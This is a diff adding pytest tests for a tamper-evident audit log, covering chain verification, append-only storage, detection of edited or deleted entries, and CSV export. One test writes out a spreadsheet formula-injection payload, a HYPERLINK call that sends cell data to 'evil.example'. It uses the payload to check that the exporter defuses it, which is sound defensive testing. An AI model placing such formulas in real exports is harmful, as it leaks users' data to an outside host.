@@ -1,0 +1,154 @@
+"""The tamper-evident record: chaining, append-only storage, verification, export."""
+
+from __future__ import annotations
+
+import csv
+import threading
+from pathlib import Path
+
+import pytest
+from sqlalchemy import text
+from sqlalchemy.exc import DBAPIError
+
+import app
+from core.audit import chain
+from core.audit.canonical import canonical_json
+from core.audit.export import export_csv
+from core.audit.verify import verify_chain
+from core.runtime.bootstrap import Environment
+from tests.support.world import drop_audit_triggers
+
+REC = chain.Recorder(actor="sato", terminal="t-1")
+
+
+def _append(env: Environment, n: int) -> None:
+    for i in range(n):
+        with env.store.write() as session:
+            chain.append(session, REC, "test.event", {"i": i, "text": "市民まつり"})
+
+
+def test_canonical_json_is_stable() -> None:
+    assert canonical_json({"b": 1, "a": "ｶ"}) == canonical_json({"a": "ｶ", "b": 1})
+    assert canonical_json({"t": "が"}) == canonical_json({"t": "が"})  # NFD input normalised
+
+
+def test_a_fresh_chain_verifies(env: Environment) -> None:
+    _append(env, 5)
+    result = verify_chain(env.store)
+    assert result.ok
+    assert result.checked == 6  # plus the terminal registration
+
+
+def test_entries_are_append_only(env: Environment) -> None:
+    _append(env, 2)
+    for statement in (
+        "UPDATE audit_entry SET actor = 'mallory' WHERE seq = 2",
+        "DELETE FROM audit_entry WHERE seq = 2",
+    ):
+        with pytest.raises(DBAPIError, match="append-only"), env.store.engine.begin() as conn:
+            conn.exec_driver_sql(statement)
+    assert verify_chain(env.store).ok
+
+
+def test_edited_entry_is_named(
+    env: Environment, data_dir: Path, db_url: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _append(env, 6)
+    drop_audit_triggers(env)
+    with env.store.engine.begin() as conn:
+        conn.execute(text("UPDATE audit_entry SET payload = replace(payload, '市民', '区民') WHERE seq = 4"))
+    result = verify_chain(env.store)
+    assert not result.ok
+    assert result.first_bad_seq == 4
+    assert app.main(["--data-dir", str(data_dir), "--database-url", db_url, "audit", "verify"]) == 1
+    assert "4" in capsys.readouterr().err
+
+
+def test_removed_entry_is_named(env: Environment) -> None:
+    _append(env, 6)
+    drop_audit_triggers(env)
+    with env.store.engine.begin() as conn:
+        conn.execute(text("DELETE FROM audit_entry WHERE seq = 3"))
+    result = verify_chain(env.store)
+    assert (result.ok, result.first_bad_seq) == (False, 3)
+
+
+def test_reordered_entries_are_named(env: Environment) -> None:
+    _append(env, 6)
+    drop_audit_triggers(env)
+    with env.store.engine.begin() as conn:
+        conn.execute(text("UPDATE audit_entry SET seq = 100 WHERE seq = 3"))
+        conn.execute(text("UPDATE audit_entry SET seq = 3 WHERE seq = 5"))
+        conn.execute(text("UPDATE audit_entry SET seq = 5 WHERE seq = 100"))
+    result = verify_chain(env.store)
+    assert (result.ok, result.first_bad_seq) == (False, 3)
+
+
+def test_truncated_tail_is_noticed_through_the_head(env: Environment) -> None:
+    _append(env, 4)
+    drop_audit_triggers(env)
+    with env.store.engine.begin() as conn:
+        conn.execute(text("DELETE FROM audit_entry WHERE seq = 5"))
+    result = verify_chain(env.store)
+    assert (result.ok, result.first_bad_seq) == (False, 5)
+
+
+def test_failed_change_leaves_no_entry(env: Environment) -> None:
+    def failing_change() -> None:
+        with env.store.write() as session:
+            chain.append(session, REC, "test.event", {"i": 1})
+            raise RuntimeError("the change failed after its audit entry")
+
+    with pytest.raises(RuntimeError):
+        failing_change()
+    assert verify_chain(env.store).checked == 1
+
+
+def test_concurrent_writers_keep_the_chain_gap_free(env: Environment) -> None:
+    errors: list[BaseException] = []
+
+    def writer() -> None:
+        try:
+            _append(env, 10)
+        except BaseException as exc:
+            errors.append(exc)
+
+    threads = [threading.Thread(target=writer) for _ in range(4)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert errors == []
+    result = verify_chain(env.store)
+    assert result.ok
+    assert result.checked == 41
+
+
+def test_export_is_excel_friendly_csv(env: Environment, tmp_path: Path) -> None:
+    _append(env, 3)
+    out = tmp_path / "out" / "audit.csv"
+    assert export_csv(env.store, out) == 4
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
+    assert rows[0][:3] == ["seq", "recorded_at", "actor"]
+    assert "市民まつり" in rows[-1][5]
+    assert list(out.parent.glob(".audit-*")) == []
+
+
+def test_export_never_hands_excel_a_formula(env: Environment, tmp_path: Path) -> None:
+    hostile = chain.Recorder(actor='=HYPERLINK("http://evil.example/?"&A1,"click")', terminal="@SUM(1)")
+    with env.store.write() as session:
+        chain.append(session, hostile, "test.event", {"i": 1})
+    out = tmp_path / "audit.csv"
+    export_csv(env.store, out)
+    row = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))[-1]
+    assert row[2] == "'" + hostile.actor
+    assert row[3] == "'@SUM(1)"
+    assert row[5].startswith("{")  # ordinary cells are written as they are
+
+
+def test_cli_export(env: Environment, data_dir: Path, db_url: str, tmp_path: Path) -> None:
+    out = tmp_path / "a.csv"
+    assert app.main(["--data-dir", str(data_dir), "--database-url", db_url, "audit", "export", "--out", str(out)]) == 0
+    assert out.exists()
